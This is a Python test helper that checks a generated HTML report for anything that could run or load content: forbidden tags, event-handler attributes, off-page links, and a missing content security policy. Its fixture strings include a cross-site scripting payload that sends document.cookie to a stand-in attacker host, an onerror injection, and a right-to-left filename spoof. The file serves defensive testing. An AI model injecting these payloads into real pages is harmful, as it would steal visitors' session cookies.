"""Read a written HTML page, and check that nothing in it can run or load anything."""

import re
from html.parser import HTMLParser

PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
HOSTILE = (
    f"{PAYLOAD}\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 ```\n# not a heading | `tick` "
    '![x](https://evil.example/x.png) $x^2$ " 漢'
)
POLICY = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'"


class Page(HTMLParser):
    """A page as a browser sees it: elements, attributes and text."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data


def safe_page(html: str) -> Page:
    """Return a page that runs no script, loads nothing, and whose references find their targets."""
    page = Page(html)
    assert not {"script", "link", "iframe", "object", "embed", "base", "form", "img"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith(("on", "src", "action"))]
    # Within the page, or to a report beside it: never to a host, and never to a scheme.
    links = [value for name, value in page.attributes if "href" in name]
    assert [link for link in links if not re.fullmatch(r"#[\w-]+|[^:?#]+/report\.html", link)] == []
    assert ("content", POLICY) in page.attributes
    assert "url(http" not in html
    assert "@import" not in html
    ids = re.findall(r'\bid="([^"]+)"', html)
    assert len(ids) == len(set(ids))
    assert set(re.findall(r'(?:href="#|url\(#)([^")]+)', html)) <= set(ids)
    return page
